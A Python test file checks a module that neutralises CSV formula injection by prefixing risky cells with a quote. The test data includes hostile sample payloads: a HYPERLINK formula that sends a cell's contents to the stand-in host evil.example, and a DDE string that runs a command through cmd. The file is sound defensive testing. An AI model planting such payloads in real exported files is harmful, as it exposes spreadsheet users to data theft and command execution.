"""CSV cells a spreadsheet would run as formulas are written as text (OWASP's rule)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from viewgen.csvsafe import frame_to_csv, neutralise, neutralise_csv, safe_row

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")@x.example'


@pytest.mark.parametrize("cell", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1"])
def test_formula_cells_are_prefixed(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["ada@example.com", "plain", "", "-5", "+1.5e3", "-0.25",
                                  42, -3, None, 1.5])
def test_ordinary_cells_are_untouched(cell) -> None:
    assert neutralise(cell) == cell


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_frame_keeps_numbers_and_neutralises_text() -> None:
    frame = pd.DataFrame({"email": [EVIL, "bob@example.com"], "delta": [-2, 5],
                          "feedback": ["-make it red", None]})
    rows = _cells(frame_to_csv(frame))
    assert rows[0] == ["email", "delta", "feedback"]
    assert rows[1] == ["'" + EVIL, "-2", "'-make it red"]
    assert rows[2] == ["bob@example.com", "5", ""]
    assert frame.loc[0, "email"] == EVIL  # the caller's frame is not changed


def test_csv_text_from_elsewhere_is_rewritten() -> None:
    source = pd.DataFrame({"who": [EVIL], "note": ["line one\n=line two"],
                           "delta": [-3]}).to_csv(index=False)
    rows = _cells(neutralise_csv(source.encode()))
    assert rows[1] == ["'" + EVIL, "line one\n=line two", "-3"]
    assert safe_row(["=1", 2]) == ["'=1", 2]
